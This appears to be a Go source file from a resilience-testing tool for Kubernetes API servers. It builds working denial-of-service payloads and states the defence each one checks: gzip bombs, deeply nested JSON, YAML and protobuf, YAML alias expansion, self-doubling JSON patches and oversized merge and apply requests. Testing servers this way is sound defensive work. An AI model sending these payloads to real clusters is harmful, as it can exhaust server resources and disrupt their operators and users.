package main

import (
	"bytes"
	"compress/gzip"
	"context"
	"encoding/binary"
	"encoding/json"
	"fmt"
	"net/http"
	"strings"
	"time"
)

// largestBody is just below the body limit of Kubernetes servers.
const largestBody = 3<<20 - 1024

const (
	mediaYAML      = "application/yaml"
	mediaProtobuf  = "application/vnd.kubernetes.protobuf"
	mergePatch     = "application/merge-patch+json"
	jsonPatch      = "application/json-patch+json"
	strategicPatch = "application/strategic-merge-patch+json"
	applyPatch     = "application/apply-patch+yaml"
)

// review returns a request of the account without rights.
func (t *target) review(media string, body []byte) shot {
	return shot{as: t.weak, method: http.MethodPost, path: accessReviews, media: media, body: body}
}

// whitespaceBodies sends bodies of 3 MB of white space with a small object. The defence: white space needs only its
// own memory, and is decoded in time proportional to its length.
type whitespaceBodies struct{}

func (whitespaceBodies) Name() string { return "whitespace-bodies" }

func (whitespaceBodies) Run(ctx context.Context, t *target, r *report) error {
	small := accessReview("n")
	behind := append(bytes.Clone(small), repeat("\n", largestBody-len(small))...)
	before := append(repeat(" \t\r\n", (largestBody-len(small))/4), small...)
	return fire(ctx, t, r, 8, t.review("", behind), t.review("", before))
}

// readsWithBodies sends bodies of 3 MB with gets, lists and 164 watches, which take none. The defence: the body of
// such a request is not read.
type readsWithBodies struct{}

func (readsWithBodies) Name() string { return "reads-with-bodies" }

func (readsWithBodies) Run(ctx context.Context, t *target, r *report) error {
	body := repeat(" ", largestBody)
	watch := t.kind.path(tenantNamespace, "") + "?watch=true&resourceVersion=0&fieldSelector=metadata.name=none"
	return spread(5, func(worker int) error {
		if worker == 0 {
			return fire(ctx, t, r, 2,
				shot{as: t.tenant, method: http.MethodGet, path: t.kind.path(tenantNamespace, "large-0"), body: body},
				shot{as: t.tenant, method: http.MethodGet, path: t.kind.path(tenantNamespace, "") + "?limit=1", body: body})
		}
		return renewing(ctx, t, t.tenant, func(s *session) error {
			return spread(41, func(int) error {
				for ctx.Err() == nil {
					one, err := s.open(t.tenant, http.MethodGet, watch, false, header{"content-type", "application/json"})
					r.count(1, len(body))
					if err == nil {
						err = s.body(one, body) // a server that does not read it delays this until it ends the stream
					}
					if err != nil {
						if ctx.Err() == nil {
							r.answer(0)
						}
						return err
					}
					select {
					case code := <-one.code:
						r.answer(code)
					default:
					}
					select {
					case <-one.ended:
						pause(ctx, 50*time.Millisecond)
					case <-ctx.Done():
					}
				}
				return nil
			})
		})
	})
}

// gzipBodies sends a megabyte that unpacks to a gigabyte. The defence: bodies are not unpacked, or only up to the
// limit of a body.
type gzipBodies struct{}

func (gzipBodies) Name() string { return "gzip-bodies" }

func (gzipBodies) Run(ctx context.Context, t *target, r *report) error {
	var packed bytes.Buffer
	w := gzip.NewWriter(&packed)
	if _, err := w.Write(make([]byte, 1<<20)); err != nil {
		return err
	}
	if err := w.Close(); err != nil {
		return err
	}
	one := t.review("", bytes.Repeat(packed.Bytes(), 1<<10)) // concatenated members are one stream
	one.header = http.Header{"Content-Encoding": {"gzip"}}
	return fire(ctx, t, r, 4, one)
}

// deepJSON sends nested arrays and objects, as deep as the length of a body permits, and as deep as decoders allow.
// The defence: depth is bounded, and a rejected body costs no more than an accepted one.
type deepJSON struct{}

func (deepJSON) Name() string { return "deep-json" }

func (deepJSON) Run(ctx context.Context, t *target, r *report) error {
	in := func(value []byte) []byte {
		return bytes.Join(
			[][]byte{[]byte(`{"apiVersion":"authorization.k8s.io/v1","kind":"SelfSubjectAccessReview","x":`), value, []byte(`}`)},
			nil,
		)
	}
	const allowed = 9_990
	wide := bytes.Join(
		[][]byte{repeat(`{"a":`, allowed), []byte(`"`), repeat("x", largestBody-8*allowed), []byte(`"`), repeat("}", allowed)},
		nil,
	)
	return fire(ctx, t, r, 4,
		t.review("", in(repeat("[", largestBody/2))),
		t.review("", in(bytes.Join([][]byte{repeat("[", largestBody/3), repeat("]", largestBody/3)}, nil))),
		t.review("", in(repeat(`{"a":`, largestBody/5-100))),
		t.review("", in(wide)))
}

// nestedProtobuf sends nested messages, and lengths beyond the end of the body. The defence is that of deepJSON; no
// memory is allocated before the data has arrived.
type nestedProtobuf struct{}

func (nestedProtobuf) Name() string { return "nested-protobuf" }

func (nestedProtobuf) Run(ctx context.Context, t *target, r *report) error {
	field := func(number int, content []byte) []byte {
		var b []byte
		b = binary.AppendUvarint(b, uint64(number<<3|2))
		b = binary.AppendUvarint(b, uint64(len(content)))
		return append(b, content...)
	}
	envelope := func(raw []byte) []byte {
		kind := append(field(1, []byte("authorization.k8s.io/v1")), field(2, []byte("SelfSubjectAccessReview"))...)
		return append([]byte("k8s\x00"), append(field(1, kind), field(2, raw)...)...)
	}
	// Written from the inside, each level around the ones before. A hundred thousand levels are 600 kB.
	var inner []byte
	for range 3_000 {
		inner = field(2, inner)
	}
	elements := repeat("\x12\x00", largestBody/2-200) // as many elements as fit
	return fire(ctx, t, r, 4,
		t.review(mediaProtobuf, envelope(inner)),
		t.review(mediaProtobuf, envelope(elements)),
		t.review(mediaProtobuf, envelope(repeat("\x0b", largestBody-200))), // groups that begin
		t.review(mediaProtobuf, append([]byte("k8s\x00"), 0x12, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0x7f)),
		t.review(mediaProtobuf, append([]byte("k8s\x00"), 0x12, 0xff, 0xff, 0xff, 0xff, 0x07)))
}

// deepYAML sends nested flows and indents. The defence is that of deepJSON.
type deepYAML struct{}

func (deepYAML) Name() string { return "deep-yaml" }

func (deepYAML) Run(ctx context.Context, t *target, r *report) error {
	const head = "apiVersion: authorization.k8s.io/v1\nkind: SelfSubjectAccessReview\nx: "
	var indented strings.Builder
	indented.WriteString(head)
	for i := range 2_000 {
		indented.WriteString("\n" + strings.Repeat(" ", i+1) + "a:")
	}
	return fire(ctx, t, r, 4,
		t.review(mediaYAML, append([]byte(head), repeat("[", largestBody-100)...)),
		t.review(mediaYAML, append([]byte(head), repeat("{a: ", largestBody/4-100)...)),
		t.review(mediaYAML, append([]byte(head), repeat("- ", largestBody/2-100)...)),
		t.review(mediaYAML, append([]byte(head), repeat("? ", largestBody/2-100)...)),
		t.review(mediaYAML, []byte(indented.String())))
}

// yamlAliases sends YAML of 1 kB whose aliases expand to a gigabyte. The defence: the size is computed before any
// alias is replaced.
type yamlAliases struct{}

func (yamlAliases) Name() string { return "yaml-aliases" }

func (yamlAliases) Run(ctx context.Context, t *target, r *report) error {
	var b strings.Builder
	b.WriteString("apiVersion: authorization.k8s.io/v1\nkind: SelfSubjectAccessReview\na0: &a0 [lol,lol,lol,lol,lol,lol,lol,lol,lol,lol]\n")
	for i := range 8 {
		fmt.Fprintf(&b, "a%d: &a%d [%s]\n", i+1, i+1, strings.TrimSuffix(strings.Repeat(fmt.Sprintf("*a%d,", i), 10), ","))
	}
	wide := "apiVersion: authorization.k8s.io/v1\nkind: SelfSubjectAccessReview\na: &a " + strings.Repeat(
		"x",
		10_000,
	) + "\nb: [" + strings.Repeat(
		"*a,",
		200_000,
	) + "*a]\n"
	return fire(ctx, t, r, 4, t.review(mediaYAML, []byte(b.String())), t.review(mediaYAML, []byte(wide)))
}

// patch returns a request of the tenant for an object of its own.
func (t *target) patch(media, path string, body []byte) shot {
	return shot{as: t.tenant, method: http.MethodPatch, path: path, media: media, body: body}
}

// deepMergePatch sends merge patches as deep as decoders allow, with a null at the bottom, to a kind that holds any
// JSON and to a kind that does not. The defence: a patch takes time proportional to its length, or its depth is
// bounded.
type deepMergePatch struct{}

func (deepMergePatch) Name() string { return "deep-merge-patch" }

func (deepMergePatch) Run(ctx context.Context, t *target, r *report) error {
	const allowed = 9_990
	nested := func(bottom string, filler int) []byte {
		return bytes.Join(
			[][]byte{repeat(`{"a":`, allowed), []byte(`{"b":` + bottom + `,"c":"`), repeat("x", filler), []byte(`"}`), repeat("}", allowed)},
			nil,
		)
	}
	var shots []shot
	for _, filler := range []int{1 << 10, largestBody - 7*allowed} {
		patch := nested("null", filler)
		listed := append([]byte(`{"l":[null],`), patch[1:]...) // with lists and nulls, which some servers merge otherwise
		shots = append(
			shots,
			t.patch(mergePatch, t.kind.path(tenantNamespace, "large-0"), patch),
			t.patch(mergePatch, t.kind.path(tenantNamespace, "large-0"), listed),
		)
		if t.deep.resource != "" {
			path := t.deep.path(tenantNamespace, "deep")
			shots = append(
				shots,
				t.patch(mergePatch, path, patch),
				t.patch(mergePatch, path, listed),
				t.patch(mergePatch, path+"?dryRun=All", patch),
			)
		}
	}
	return fire(ctx, t, r, 4, shots...)
}

// jsonPatchCopies sends JSON patches that copy a value into itself, which doubles it each time. The defence: the
// copies of a patch are bounded.
type jsonPatchCopies struct{}

func (jsonPatchCopies) Name() string { return "json-patch-copies" }

func (jsonPatchCopies) Run(ctx context.Context, t *target, r *report) error {
	var operations []object
	for i := range 40 {
		operations = append(
			operations,
			object{"op": "copy", "from": "/metadata/annotations", "path": fmt.Sprintf("/metadata/annotations/x%d", i)},
		)
	}
	return t.jsonPatches(ctx, r, operations)
}

func (t *target) jsonPatches(ctx context.Context, r *report, operations []object) error {
	body, err := json.Marshal(operations)
	if err != nil {
		return err
	}
	shots := []shot{t.patch(jsonPatch, t.kind.path(tenantNamespace, "large-0"), body)}
	if t.deep.resource != "" {
		shots = append(shots, t.patch(jsonPatch, t.deep.path(tenantNamespace, "deep"), body))
	}
	return fire(ctx, t, r, 4, shots...)
}

// jsonPatchMoves adds a list of 100,000 elements and moves the last of them to its beginning 9,000 times. The
// defence: the number of operations and their total cost are bounded.
type jsonPatchMoves struct{}

func (jsonPatchMoves) Name() string { return "json-patch-moves" }

func (jsonPatchMoves) Run(ctx context.Context, t *target, r *report) error {
	elements := make([]string, 100_000)
	for i := range elements {
		elements[i] = "a"
	}
	operations := []object{{"op": "add", "path": "/metadata/finalizers", "value": elements}}
	for range 9_000 {
		operations = append(operations, object{"op": "move", "from": "/metadata/finalizers/99999", "path": "/metadata/finalizers/0"})
	}
	return t.jsonPatches(ctx, r, operations)
}

// strategicLists sends a strategic merge patch with a list of 25,000 elements that are merged by a key. The defence:
// the time of a patch is bounded.
type strategicLists struct{}

func (strategicLists) Name() string { return "strategic-lists" }

func (strategicLists) Run(ctx context.Context, t *target, r *report) error {
	return fire(ctx, t, r, 4, t.patch(strategicPatch, t.kind.path(tenantNamespace, "large-0"), owners(25_000)))
}

// owners returns an object, or a patch, with so many owners.
func owners(n int) []byte {
	var b bytes.Buffer
	b.WriteString(`{"metadata":{"ownerReferences":[`)
	for i := range n {
		if i > 0 {
			b.WriteByte(',')
		}
		fmt.Fprintf(&b, `{"apiVersion":"v1","kind":"Pod","name":"p","uid":"%d"}`, i)
	}
	b.WriteString(`]}}`)
	return b.Bytes()
}

// largeApply applies an object with 50,000 fields, each of which has an owner. The defence is that of strategicLists.
type largeApply struct{}

func (largeApply) Name() string { return "large-apply" }

func (largeApply) Run(ctx context.Context, t *target, r *report) error {
	labels := object{}
	for i := range 20_000 {
		labels[fmt.Sprintf("l%d", i)] = ""
	}
	meta := object{"name": "large-0", "labels": labels}
	body, err := json.Marshal(object{"apiVersion": t.kind.apiVersion, "kind": t.kind.name, "metadata": meta})
	if err != nil {
		return err
	}
	return fire(ctx, t, r, 2, t.patch(applyPatch, t.kind.path(tenantNamespace, "large-0")+"?fieldManager=attack&force=true&dryRun=All", body))
}

// deepObjects creates objects that are as deep as decoders allow, and reads, lists, changes and deletes them. The
// stored form of an object may be deeper than the object, because its managed fields are nested likewise. The
// defence: every accepted object can be read again, and one object never keeps others from being listed.
type deepObjects struct{}

func (deepObjects) Name() string { return "deep-objects" }

func (deepObjects) Run(ctx context.Context, t *target, r *report) error {
	if !t.hasDefinitions(r) {
		return nil
	}
	client := t.client(credential{}, 1)
	defer client.CloseIdleConnections()
	list := t.deep.path(tenantNamespace, "")
	send := func(method, path, media string, body []byte) int {
		code, err := fireOne(ctx, t, client, r, shot{as: t.tenant, method: method, path: path, media: media, body: body})
		if ctx.Err() == nil {
			if r.answer(code); err != nil {
				r.note("%s", reason(err))
			}
		}
		return code
	}
	for _, depth := range []int{1_000, 4_990, 5_000, 9_900, 9_980, 9_985, 9_990, 9_992, 9_994, 9_996, 9_997, 9_998} {
		if ctx.Err() != nil {
			return nil
		}
		name := fmt.Sprintf("deep-%d", depth)
		body := bytes.Join(
			[][]byte{fmt.Appendf(nil, `{"apiVersion":%q,"kind":%q,"metadata":{"name":%q},"x":`, t.deep.apiVersion, t.deep.name, name),
				repeat(`{"a":`, depth), []byte("1"), repeat("}", depth), []byte("}")},
			nil,
		)
		if code := send(http.MethodPost, list, "", body); code != http.StatusCreated {
			continue
		}
		one := t.deep.path(tenantNamespace, name)
		for _, next := range []struct {
			method, path, media, body string
		}{
			{http.MethodGet, one, "", ""}, {http.MethodGet, list, "", ""},
			{http.MethodPatch, one, mergePatch, `{"metadata":{"labels":{"a":"b"}}}`}, {http.MethodDelete, one, "", ""},
		} {
			var body []byte
			if next.body != "" {
				body = []byte(next.body)
			}
			if code := send(next.method, next.path, next.media, body); code != http.StatusOK && ctx.Err() == nil {
				r.hole("an object of %d levels was created, and then %s of %s got status %d", depth, next.method, next.path, code)
			}
		}
	}
	return nil
}
